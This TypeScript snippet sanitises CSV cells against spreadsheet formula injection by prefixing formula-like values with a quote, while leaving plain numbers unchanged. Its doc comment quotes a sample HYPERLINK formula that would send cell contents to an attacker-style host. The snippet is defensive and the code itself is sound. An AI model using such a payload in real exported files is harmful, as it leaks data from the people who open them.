/**
 * A CSV cell as a spreadsheet will not run it. Excel, LibreOffice and Google Sheets take a cell
 * that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
 * a provider's free text (a summary, a transcript line: the caller's own words) such as
 * `=HYPERLINK("http://evil.example/?"&A1,"Click")` would run on the analyst's machine. Such a cell
 * is written with a leading `'`, which spreadsheets show as text and do not keep (OWASP's advice
 * for CSV injection). A number (`-0.5`, `+14155550123`) is left as it is: no spreadsheet reads it
 * as anything else, and a BI tool must get the value. csv-stringify has no such option.
 */
export function spreadsheetSafe(cell: string): string {
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
